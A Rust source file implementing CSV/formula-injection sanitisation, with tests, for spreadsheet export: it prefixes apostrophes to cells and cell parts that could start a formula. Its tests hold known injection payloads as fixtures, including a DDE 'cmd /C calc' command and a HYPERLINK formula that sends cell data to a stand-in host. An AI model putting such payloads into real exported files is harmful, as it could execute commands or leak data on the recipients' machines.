//! What a spreadsheet would take for a formula.

use std::borrow::Cow;

/// The text made harmless as a cell of a spreadsheet: with an apostrophe before it, when a program might take it for a
/// formula or a command, and before every part of it that would be such a cell by itself.
///
/// That is a text whose first character, behind blanks, invisible characters and quotation marks, is `=`, `+`, `-` or `@`,
/// or one of their wide and small forms, and a text with a tab or a line break among the characters before that. The rule
/// is that of OWASP's page on CSV injection, widened by what spreadsheets trim. Plain numbers and phones in E.164 (`-12.5`,
/// `+79000000101`) stay as they are, and so does what begins with an apostrophe already.
///
/// Parts end at commas, semicolons, tabs and line breaks. A spreadsheet that expects another separator than the file has,
/// as a Russian one does of commas, sees no field in quotes and splits there, however well the encoder has quoted.
pub fn safe_text(text: &str) -> Cow<'_, str> {
    if is_number(text) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len());
    if is_command(text) {
        safe.push('\'');
    }
    let mut parts = text.split_inclusive(SEPARATORS);
    safe.push_str(parts.next().unwrap_or_default());
    for part in parts {
        if is_command(part.trim()) {
            safe.push('\'');
        }
        safe.push_str(part);
    }
    if safe == text { Cow::Borrowed(text) } else { Cow::Owned(safe) }
}

/// Where a spreadsheet may begin another cell, whatever the file says.
const SEPARATORS: [char; 5] = [',', ';', '\t', '\r', '\n'];

fn is_command(part: &str) -> bool {
    !part.starts_with('\'') && !is_number(part.trim_end_matches(SEPARATORS)) && may_be_formula(part)
}

fn may_be_formula(text: &str) -> bool {
    text.chars()
        .find_map(|c| match c {
            '\t' | '\r' | '\n' | '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫'
            | '−' => Some(true),
            c if is_trimmed(c) || is_quote(c) => None,
            _ => Some(false),
        })
        .unwrap_or(false)
}

/// Blanks, control characters and characters without a shape.
fn is_trimmed(c: char) -> bool {
    let is_invisible = matches!(c, '\u{AD}' | '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}')
        || matches!(c, '\u{2060}'..='\u{206F}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}' | '\u{FFF9}'..='\u{FFFB}')
        || matches!(c, '\u{34F}' | '\u{61C}' | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}' | '\u{2800}')
        || matches!(c, '\u{3164}' | '\u{FFA0}' | '\u{E0000}'..='\u{E0FFF}');
    c.is_whitespace() || c.is_control() || is_invisible
}

fn is_quote(c: char) -> bool {
    matches!(c, '"' | '\'' | '`' | '´' | '«' | '»' | '‹' | '›' | '‘'..='‟' | '＂' | '＇')
}

/// A sign or none, digits, and at most one decimal point or comma among them. A phone in E.164 is one.
fn is_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, part) = unsigned.split_once(['.', ',']).unwrap_or((unsigned, "0"));
    let all_digits = |digits: &str| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(part)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{SEPARATORS, safe_text};

    const TRIGGERS: [&str; 16] =
        ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
    const SKIPPED: [&str; 15] = [
        " ",
        "\u{A0}",
        "\u{3000}",
        "\u{200B}",
        "\u{FEFF}",
        "\u{0}",
        "\u{202E}",
        "\u{2800}",
        "\u{3164}",
        "\u{E0020}",
        "\"",
        "`",
        "«",
        "“",
        "＂",
    ];

    #[test]
    fn known_attacks_are_disarmed() {
        for attack in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://a.example?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t1+1",
            "\r1+1",
            "  =1+1",
            "\"=1+1",
            "＝1+1",
            "+7 900 000-01-01",
            "-1e5",
            "+",
            "-.",
            "--5",
            "+1.2.3",
        ] {
            assert_eq!(safe_text(attack), format!("'{attack}"));
        }
    }

    #[test]
    fn what_another_separator_would_make_a_cell_of_is_disarmed_where_it_begins() {
        for (attack, safe) in [
            ("Иван;=1+1", "Иван;'=1+1"),
            ("Иван, \"=cmd|' /C calc'!A0", "Иван,' \"=cmd|' /C calc'!A0"),
            ("Иван\r\n@SUM(1)", "Иван\r\n'@SUM(1)"),
            ("=1;\t＝2", "'=1;\t'＝2"),
            ("\t=1+1", "'\t'=1+1"),
            ("+79000000101, -2+3", "'+79000000101,' -2+3"),
        ] {
            assert_eq!(safe_text(attack), safe);
        }
    }

    #[test]
    fn what_people_write_stays_as_it_is() {
        for text in [
            "",
            " ",
            "Не включается",
            "ул. Ленина, д. 12",
            "\"Ромашка\" - сервис",
            "+79000000101",
            "-12.50",
            "-12,50",
            "1500.00",
            "2026-01-12 09:00:00",
            "a=b",
            "'=1+1",
            "«Уют» + быт",
            "звонил дважды; +79000000102, -12.5",
        ] {
            assert_eq!(safe_text(text), text);
        }
    }

    fn skipped() -> impl Strategy<Value = String> {
        prop::collection::vec(prop::sample::select(&SKIPPED[..]), 0..5).prop_map(|parts| parts.concat())
    }

    proptest! {
        #[test]
        fn whatever_stands_before_a_sign_and_after_it_the_cell_is_disarmed(
            before in skipped(), sign in prop::sample::select(&TRIGGERS[..]), after in "\\PC*",
        ) {
            let text = format!("{before}{sign}{after}");
            let number = before.is_empty()
                && matches!(sign, "+" | "-")
                && after.starts_with(|c: char| c.is_ascii_digit())
                && after.chars().all(|c| c.is_ascii_digit() || c == '.' || c == ',');
            let safe = safe_text(&text);
            prop_assert!(number || safe.starts_with('\''), "{safe:?}");
        }

        #[test]
        fn a_part_is_disarmed_like_a_text(
            separator in prop::sample::select(&SEPARATORS[..]), before in skipped(),
            sign in prop::sample::select(&["=", "@", "＝", "−"][..]), after in "\\PC*",
        ) {
            let safe = safe_text(&format!("x{separator}{before}{sign}{after}")).into_owned();
            let part = safe.split_once(separator).map(|(_, part)| part);
            prop_assert!(part.is_some_and(|part| part.starts_with('\'')), "{safe:?}");
        }

        #[test]
        fn a_text_is_kept_whole_and_disarmed_once(text in "(\\PC|[-=,; '\t\n]){0,12}") {
            let safe = safe_text(&text).into_owned();
            let bare = |text: &str| text.replace('\'', "");
            prop_assert_eq!(bare(&safe), bare(&text));
            prop_assert_eq!(safe_text(&safe), safe.clone());
        }

        #[test]
        fn a_text_that_begins_with_a_letter_and_has_no_parts_stays(text in "[a-zа-яёA-ZА-ЯЁ][^,;\\pC]*") {
            prop_assert_eq!(safe_text(&text), text.clone());
        }

        #[test]
        fn phones_and_numbers_stay(phone in "\\+[1-9][0-9]{6,14}", number in "-?[0-9]{1,15}([.,][0-9]{1,6})?") {
            prop_assert_eq!(safe_text(&phone), phone.clone());
            prop_assert_eq!(safe_text(&number), number.clone());
        }
    }
}
